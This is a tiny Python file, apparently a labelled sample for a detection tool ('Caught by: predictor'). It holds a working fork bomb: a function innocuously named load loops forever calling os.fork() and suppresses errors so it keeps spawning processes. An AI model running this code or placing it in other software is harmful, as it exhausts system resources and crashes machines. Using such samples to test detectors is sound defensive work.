"""Every process makes two, for ever, and goes on when it may not. Caught by: predictor."""

import contextlib
import os


def load(arrays):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
